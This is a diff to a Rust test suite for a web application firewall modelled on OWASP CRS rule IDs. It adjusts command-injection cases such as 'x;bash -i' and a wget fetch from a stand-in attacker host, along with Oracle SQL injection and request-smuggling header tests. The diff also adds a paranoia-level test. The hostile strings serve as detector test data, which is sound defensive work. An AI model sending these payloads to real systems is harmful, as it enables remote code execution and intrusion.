@@ -53,7 +53,8 @@ const QUERY_CASES: &[(u32, &str, &str)] = &[
         "http://evil.example/shell.txt?",
         "https://example.com/a?b=c",
     ),
-    (932100, "x;cat /etc/hosts", "cats and dogs; a story"),
+    (932100, "x;uname -a", "cats and dogs; a story"),
+    (932100, "x;bash -i", "x;cat notes.txt"),
     (
         932105,
         ";wget http://evil.example/x.sh",
@@ -207,8 +208,13 @@ fn protocol_rules() {
     let mut r = get("/");
     r.target = "no-slash".into();
     assert!(rule_ids(&fw, &r).contains(&920100));
-    // CL + TE smuggling.
+    // CL + TE: a warning, as in CRS (the server frames by Transfer-Encoding);
+    // it blocks together with another smuggling sign.
     let r = post_form("/x", "a=b").header("Transfer-Encoding", "chunked");
+    assert!(!fw.inspect(&r).is_block());
+    let r = get("/")
+        .header("Content-Length", "3")
+        .header("Transfer-Encoding", "chunked");
     assert!(rule_ids(&fw, &r).contains(&920181));
     // Non-numeric Content-Length.
     let r = get("/").header("Content-Length", "1x");
@@ -352,6 +358,35 @@ fn disabled_firewall_allows_everything_and_strict_mode_raises_paranoia() {
     let n1 = fw().rules().len();
     let n2 = Firewall::new(strict).expect("fw").rules().len();
     assert!(n2 > n1);
+}
+
+/// Paranoia 1 behaves like CRS at paranoia 1: shapes that CRS only flags at
+/// paranoia 2 (common-word commands after a separator, a value that merely
+/// starts with `bash -c`, backtick substitution, Oracle package calls,
+/// `echo "..."`) pass at the default level and block at paranoia 2.
+#[test]
+fn paranoia_2_adds_what_crs_keeps_out_of_paranoia_1() {
+    let pl1 = fw();
+    let pl2 = Firewall::new(FirewallConfig {
+        paranoia: 2,
+        ..FirewallConfig::default()
+    })
+    .expect("fw");
+    for (id, value) in [
+        (932102, "x;vi -c:!id"),
+        (932102, "x;cut -d: -f1 notes"),
+        (932103, "bash -c \"echo hi\""),
+        (932132, "`cut a``dig b`"),
+        (942153, "x||dbms_pipe.receive_message('a',10)"),
+    ] {
+        let req = get(&q(value));
+        assert!(!pl1.inspect(&req).is_block(), "PL1 blocked {value:?}");
+        assert!(
+            rule_ids(&pl2, &req).contains(&id),
+            "PL2 missed {id} on {value:?}: {:?}",
+            pl2.inspect(&req)
+        );
+    }
 }
 
 #[test]
